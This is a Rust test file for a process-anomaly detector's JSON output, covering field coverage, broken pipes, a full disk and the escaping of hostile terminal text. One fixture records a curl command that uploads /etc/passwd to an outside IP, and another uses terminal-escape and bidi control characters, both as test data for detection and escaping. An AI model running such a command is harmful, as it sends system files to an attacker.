//! JSON Lines on standard output, and nothing else there.

use std::io::{BufRead, BufReader};
use std::process::Stdio;

use serde_json::Value;

use crate::recording::{DAY, Folder, exfiltration, line, web_week};
use crate::support::{replay, run};

/// Every field of the design that is delivered so far.
const FIELDS: [&str; 14] = [
    "score",
    "score_permille",
    "distance",
    "smoothed",
    "threshold",
    "level",
    "novel",
    "first",
    "workload",
    "seen",
    "reason",
    "nearest",
    "held",
    "standing",
];

#[test]
fn every_execution_with_every_field_beside_the_recordings_keys() {
    let folder = Folder::new();
    let socket =
        serde_json::json!([{"fd": 0, "family": "inet", "protocol": 6, "remote": "203.0.113.9:4444"}]);
    let last = exfiltration("web").at(7.0 * DAY).with("tty", false).with("sockets", socket).with("pid", 77);
    let recording = folder.recording("r.jsonl", &[web_week("web"), vec![last]].concat());
    let ran = run(replay(&recording).arg("--json")).succeeded();
    let lines = ran.json();
    assert_eq!(lines.len(), 1009);
    for line in &lines {
        for key in FIELDS {
            assert!(line.get(key).is_some(), "{key} is not in {line}");
        }
        for key in ["time", "pid", "ppid", "name", "parent", "grandparent", "uid", "exe", "args", "feed"] {
            assert!(line.get(key).is_some(), "{key} is not in {line}");
        }
    }
    let novel = &lines[1008];
    assert_eq!((&novel["pid"], &novel["tty"], &novel["feed"]), (&77.into(), &false.into(), &"replay".into()));
    assert_eq!(novel["sockets"][0]["remote"], "203.0.113.9:4444");
    assert_eq!(novel["args"][2], "curl -s --upload-file /etc/passwd http://203.0.113.9/drop");
    let number = |key: &str| novel[key].as_f64().unwrap_or_else(|| panic!("{key} is no number in {novel}"));
    assert_eq!((number("score") * 1000.0).floor(), number("score_permille"));
    assert!(number("smoothed") >= number("score") && number("distance") > 0.45);
    assert!(
        novel["nearest"].is_string() && novel["reason"].as_str().is_some_and(|reason| reason.len() <= 200)
    );
    // Notices and the summary are for people: they are elsewhere.
    assert!(ran.err.contains("learned enough") && ran.err.contains("\nnovel "), "{}", ran.err);
}

#[test]
fn a_reader_that_leaves_ends_it_quietly() {
    let folder = Folder::new();
    // More than any pipe holds.
    let many: Vec<_> = (0..20).flat_map(|_| web_week("web")).collect();
    let recording = folder.recording("r.jsonl", &many);
    let mut child = replay(&recording)
        .arg("--json")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("it starts");
    let mut first = String::new();
    BufReader::new(child.stdout.take().expect("it is piped")).read_line(&mut first).expect("it writes");
    assert!(serde_json::from_str::<Value>(&first).is_ok(), "{first}");
    let output = child.wait_with_output().expect("it ends");
    let err = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(0), "{err}");
    for word in ["panic", "pipe", "rror", "executions  "] {
        assert!(!err.contains(word), "{err}");
    }
}

#[test]
fn a_full_disk_behind_standard_output_is_a_sentence() {
    let folder = Folder::new();
    let recording = folder.recording("r.jsonl", &web_week("web"));
    let full = std::fs::OpenOptions::new().write(true).open("/dev/full").expect("the kernel has it");
    let output =
        replay(&recording).arg("--json").stdin(Stdio::null()).stdout(full).output().expect("it runs");
    let err = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{err}");
    assert!(err.contains("cannot write to standard output") && err.contains("make room"), "{err}");
}

#[test]
fn hostile_text_is_escaped_by_json_and_comes_back_whole() {
    let folder = Folder::new();
    let hostile = "\u{1b}[2J\u{9b}31m\u{7f}\u{202e}\"\\\n\u{0}x";
    let recording = folder.recording("r.jsonl", &[line("web", "sh", &["echo", hostile]).at(0.0)]);
    let ran = run(replay(&recording).arg("--json")).succeeded();
    let fools = |c: char| c.is_control() || matches!(c, '\u{202a}'..='\u{202e}');
    assert!(!ran.out.trim_end().chars().any(fools), "{:?}", ran.out);
    // No exec can pass a NUL: what follows one is not part of the argument.
    assert_eq!(ran.json()[0]["args"][1], "\u{1b}[2J\u{9b}31m\u{7f}\u{202e}\"\\\n");
}
